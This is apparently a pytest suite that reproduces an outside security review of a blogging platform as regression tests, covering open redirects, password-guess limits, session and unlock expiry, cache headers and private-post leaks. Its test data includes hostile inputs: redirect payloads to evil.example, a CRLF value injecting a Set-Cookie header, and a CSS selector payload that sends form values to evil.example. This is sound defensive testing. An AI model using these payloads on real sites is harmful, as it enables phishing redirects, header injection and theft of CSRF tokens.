"""The outside security review (issue 11), each finding reproduced as the attack it was,
through HTTP: blog ids reused into someone else's cache and unlocks, open redirects after
log-in, unbounded blog-password guessing, unlocks and sessions that outlive a password
change or a log-out, answers a shared cache could hand to the wrong reader, costly code
views, and error wording that tells a private post exists. (The pathological bodies are
in `test_pathological_bodies`; the crossposting and media findings in `test_crossposting`.)"""

import time
from urllib.parse import urlsplit

import pytest
from calls import Api
from databases import POSTGRES_URL
from pages import csrf_token, log_in, submit, text
from sqlalchemy import select

from writeas.core.db import db
from writeas.core.models import Collection


def unlock(client, alias: str, password: str):
    return client.post(
        f"/{alias}/unlock",
        data={"password": password, "next": f"/{alias}/", "csrf_token": csrf_token(client, "/")},
    )


def protected_blog(api, token, alias, password, body):
    assert (
        api.call(
            "POST", "/api/collections", token=token, json={"alias": alias, "title": alias}
        ).status_code
        == 201
    )
    settings = {"visibility": "password", "password": password}
    assert (
        api.call("POST", f"/api/collections/{alias}", token=token, json=settings).status_code == 200
    )
    published = api.call(
        "POST", f"/api/collections/{alias}/posts", token=token, json={"body": body}
    )
    assert published.status_code == 201


# --- 3. a blog's id never passes to another blog ------------------------------------------


def test_a_new_blog_inherits_neither_the_id_nor_the_pages_nor_the_unlocks_of_a_deleted_one(
    app, api, alice, bob
):
    protected_blog(api, alice, "diary", "alice's pw", "Alice's secret entry")
    reader = app.test_client()
    assert unlock(reader, "diary", "alice's pw").status_code == 303
    assert "Alice&#39;s secret entry" in text(reader.get("/diary/"))  # rendered and cached
    with app.app_context():
        old = db.session.scalar(select(Collection).where(Collection.alias == "diary"))
        old_id, old_uid = old.id, old.uid
    assert api.call("DELETE", "/api/collections/diary", token=alice).status_code == 204

    protected_blog(api, bob, "journal", "bob's pw", "Bob's own entry")
    for _ in range(3):  # bring the new blog's content version past the old one's
        api.call("POST", "/api/collections/journal/posts", token=bob, json={"body": "More."})
    with app.app_context():
        new = db.session.scalar(select(Collection).where(Collection.alias == "journal"))
        assert new.id > old_id and new.uid != old_uid
    locked = reader.get("/journal/")
    assert locked.status_code == 403 and "Bob" not in text(locked)
    assert "Alice" not in text(app.test_client().get("/journal/"))


# --- 4. the log-in form is no open redirect ------------------------------------------------

HOSTILE_NEXT = [
    "/\t/evil.example",
    "/\n/evil.example",
    "\t//evil.example",
    " //evil.example",
    "/\\evil.example",
    "//evil.example",
    "https://evil.example/",
    "javascript:alert(1)",
    "/\r\nSet-Cookie: stolen=1",
    "/me/\r\n",
    "/me/\x7f",
]


@pytest.mark.parametrize("target", HOSTILE_NEXT, ids=repr)
def test_next_after_log_in_stays_on_this_site(client, alice, target):
    assert client.get("/login", query_string={"next": target}).status_code == 200
    response = log_in(client, "alice", next_path=target)
    assert response.status_code == 303
    location = urlsplit(response.headers["Location"])
    assert location.netloc in ("", "localhost") and location.path == "/me/"


def test_next_after_log_in_keeps_a_path_on_this_site(client, alice):
    response = log_in(client, "alice", next_path="/me/blogs/alice")
    assert urlsplit(response.headers["Location"]).path == "/me/blogs/alice"


@pytest.mark.parametrize("target", ["/diary/\r\n", "//evil.example/diary/", "/other/"], ids=repr)
def test_next_after_an_unlock_stays_in_the_blog(app, api, alice, target):
    protected_blog(api, alice, "diary", "alice's pw", "Entry")
    reader = app.test_client()
    response = reader.post(
        "/diary/unlock",
        data={"password": "alice's pw", "next": target, "csrf_token": csrf_token(reader, "/")},
    )
    assert response.status_code == 303
    assert urlsplit(response.headers["Location"]).path == "/diary/"


# --- 5. blog passwords can't be guessed without limit --------------------------------------


@pytest.fixture
def guarded(make_app):
    app = make_app(LOGIN_RATE_LIMIT="3 per minute")

    api = Api(app.test_client())
    token = api.signup("alice")
    protected_blog(api, token, "diary", "alice's pw", "Entry")
    protected_blog(api, token, "other", "other pw", "Entry")
    return app, api


def test_wrong_blog_passwords_run_into_the_log_in_limit(guarded):
    app, api = guarded

    def read(alias, password):
        return api.call(
            "GET", f"/api/collections/{alias}", headers={"X-Collection-Password": password}
        )

    assert [read("diary", f"guess {n}").status_code for n in range(2)] == [403, 403]
    reader = app.test_client()
    assert unlock(reader, "diary", "guess 3").status_code == 403  # the form shares the count
    refused = read("diary", "alice's pw")
    assert refused.status_code == 429 and int(refused.headers["Retry-After"]) > 0
    assert refused.json["error_msg"].startswith("Too many wrong passwords")
    assert unlock(reader, "diary", "alice's pw").status_code == 429
    assert read("other", "other pw").status_code == 200  # counted per blog


def test_right_passwords_cost_nothing_from_the_limit(guarded):
    _app, api = guarded
    for _ in range(6):
        response = api.call(
            "GET", "/api/collections/diary", headers={"X-Collection-Password": "alice's pw"}
        )
        assert response.status_code == 200


# --- 6. a changed password or visibility ends earlier unlocks ----------------------------


def test_changing_the_password_locks_out_earlier_readers(app, api, alice):
    protected_blog(api, alice, "diary", "first pw", "Entry")
    reader = app.test_client()
    unlock(reader, "diary", "first pw")
    assert reader.get("/diary/").status_code == 200
    api.call("POST", "/api/collections/diary", token=alice, json={"password": "second pw"})
    assert reader.get("/diary/").status_code == 403
    unlock(reader, "diary", "second pw")
    assert reader.get("/diary/").status_code == 200


def test_changing_the_visibility_and_back_locks_out_earlier_readers(app, api, alice):
    protected_blog(api, alice, "diary", "first pw", "Entry")
    reader = app.test_client()
    unlock(reader, "diary", "first pw")
    for visibility in ("public", "password"):
        api.call("POST", "/api/collections/diary", token=alice, json={"visibility": visibility})
    assert reader.get("/diary/").status_code == 403


# --- 7. a log-out ends the session, copies included ----------------------------------------


def test_a_copied_session_cookie_dies_with_the_log_out(app, alice):
    browser = app.test_client()
    log_in(browser, "alice")
    stolen = browser.get_cookie("session").value
    elsewhere = app.test_client()
    log_in(elsewhere, "alice")
    copy = app.test_client()
    copy.set_cookie("session", stolen)
    assert copy.get("/me/").status_code == 200

    confirm = browser.get("/logout")
    assert confirm.status_code == 200 and "csrf_token" in text(confirm)
    assert submit(browser, "/logout", page="/logout").status_code == 303
    for client in (browser, copy, elsewhere):
        assert client.get("/me/").status_code == 302
    log_in(browser, "alice")
    assert browser.get("/me/").status_code == 200 and copy.get("/me/").status_code == 302


# --- 8. answers shaped by who asks are never shared --------------------------------------


def test_api_answers_vary_on_the_headers_that_shape_them(api, alice):
    post = api.publish(alice, body="Mine")
    for path in (f"/api/posts/{post['id']}", f"/api/posts/{post['id']}?fresh=1"):
        anonymous = api.call("GET", path)
        assert {v.strip() for v in anonymous.headers["Vary"].split(",")} == {
            "Accept",  # an ActivityPub Accept gets the post's object instead
            "Authorization",
            "X-Collection-Password",
        }
        assert "private" not in anonymous.headers.get("Cache-Control", "")
        mine = api.call("GET", path, token=alice)
        assert mine.headers["Cache-Control"] == "private, no-store"
        assert "Cookie" not in mine.headers["Vary"]
    with_password = api.call(
        "GET", "/api/collections/alice", headers={"X-Collection-Password": "x"}
    )
    assert with_password.headers["Cache-Control"] == "private, no-store"
    assert api.call("GET", "/api/me", token=alice).headers["Cache-Control"] == "private, no-store"


def test_pages_for_a_session_are_private(app, api, alice):
    protected_blog(api, alice, "diary", "pw for diary", "Entry")
    api.publish(alice, body="Public words")
    visitor = app.test_client()
    assert "private" not in visitor.get("/alice/").headers.get("Cache-Control", "")
    assert visitor.get("/").headers["Cache-Control"] == "private, no-store"  # a CSRF token
    unlock(visitor, "diary", "pw for diary")
    unlocked = visitor.get("/diary/")
    assert unlocked.status_code == 200
    assert unlocked.headers["Cache-Control"] == "private, no-store"
    assert "Cookie" in unlocked.headers["Vary"]
    writer = app.test_client()
    log_in(writer, "alice")
    for path in ("/alice/", "/me/", "/"):
        assert writer.get(path).headers["Cache-Control"] == "private, no-store", path


# --- 9. code views cost what a paste is worth --------------------------------------------


@pytest.mark.skipif(bool(POSTGRES_URL), reason="the cost is the renderer's, not the database's")
def test_a_large_paste_in_every_language_costs_one_plain_render(api, client):
    from pygments.lexers import get_all_lexers

    extensions = sorted(
        {
            pattern[2:]
            for *_names, patterns, _mimes in get_all_lexers()
            for pattern in patterns
            if pattern.startswith("*.") and pattern[2:].isalnum()
        }
    )
    assert len(extensions) > 300
    paste = "def f(x):\n    return [x] * 2  # <b>\n" * 6000  # about 200 KB
    post = api.publish(body=paste, font="code")
    started = time.perf_counter()
    views = [client.get(f"/{post['id']}.{extension}") for extension in extensions]
    elapsed = time.perf_counter() - started
    assert all(view.status_code == 200 for view in views)
    pages = {view.get_data() for view in views if view.mimetype == "text/html"}
    assert len(pages) == 1  # too long to highlight: the same numbered plain lines for all
    assert elapsed < 30, f"{len(extensions)} code views took {elapsed:.1f} s"
    html = pages.pop().decode()
    assert 'id="L6000"' in html and "&lt;b&gt;" in html and '<span class="k">' not in html


def test_extensions_naming_one_language_share_one_render(make_app):

    app = make_app(RENDER_RATE_LIMIT="3 per minute")
    client = app.test_client()
    post = Api(client).publish(body="def f(x):\n    return x\n", font="code")
    for extension in ("py", "pyw", "PY", "rb", "go"):  # py, pyw and PY are one render
        response = client.get(f"/{post['id']}.{extension}")
        assert response.status_code == 200, extension
    assert '<span class="k">def</span>' in text(client.get(f"/{post['id']}.py"))
    refused = client.get(f"/{post['id']}.rs")
    assert refused.status_code == 429 and int(refused.headers["Retry-After"]) > 0
    assert client.get(f"/{post['id']}.go").status_code == 200  # cached: costs nothing


# --- 10 and 16: nothing tells a stranger a post exists -----------------------------------


def test_the_editor_of_an_unpublished_post_tells_a_stranger_only_that_it_is_gone(api, client):
    post = api.publish(body="A title nobody should see\n\nBody.")
    update = api.call("POST", f"/api/posts/{post['id']}", json={"body": "", "token": post["token"]})
    assert update.status_code == 410
    stranger = client.get(f"/{post['id']}/edit")
    assert stranger.status_code == 410 and "nobody should see" not in text(stranger)
    assert client.get(f"/{post['id']}").status_code == 410


def test_posts_in_a_private_blog_read_as_unknown_ids(app, api, alice, bob):
    api.call("POST", "/api/collections", token=alice, json={"alias": "hidden", "title": "H"})
    api.call("POST", "/api/collections/hidden", token=alice, json={"visibility": "private"})
    post = api.call("POST", "/api/collections/hidden/posts", token=alice, json={"body": "Shh"})
    post_id = post.json["data"]["id"]
    unknown = api.call("GET", "/api/posts/nosuchpost1234").json
    for token in (None, bob):
        assert api.call("GET", f"/api/posts/{post_id}", token=token).json == unknown
    assert app.test_client().get(f"/{post_id}").status_code == 404
    assert app.test_client().get(f"/{post_id}/edit").status_code == 404


def test_claiming_or_collecting_another_users_post_reads_as_an_unknown_id(api, alice, bob):
    theirs = api.publish(bob, body="Bob's")
    missing = {"id": "nosuchpost1234", "token": "x"}
    for path in ("/api/posts/claim", "/api/collections/alice/collect"):
        results = api.call(
            "POST",
            path,
            token=alice,
            json=[{"id": theirs["id"], "token": theirs["token"]}, missing],
        ).json["data"]
        assert results[0]["code"] == results[1]["code"] == 404
        assert results[0]["error_msg"] == results[1]["error_msg"]


# --- 14. pages with a blog's own CSS hold no CSRF token -----------------------------------


def test_blog_pages_carrying_the_authors_css_hold_no_csrf_token(app, api, alice, bob):
    css = "input[value^=a] { background: url(https://evil.example/a) }"
    api.call("POST", "/api/collections/alice", token=alice, json={"style_sheet": css})
    post = api.call("POST", "/api/collections/alice/posts", token=alice, json={"body": "Styled"})
    slug = post.json["data"]["slug"]
    visitor = app.test_client()
    log_in(visitor, "bob")
    for path in ("/alice/", f"/alice/{slug}", "/alice/tag:x"):
        html = text(visitor.get(path))
        assert "evil.example" in html, path  # the author's CSS is there…
        assert "csrf_token" not in html and "<form" not in html, path  # …and nothing to read
        assert 'href="/logout"' in html
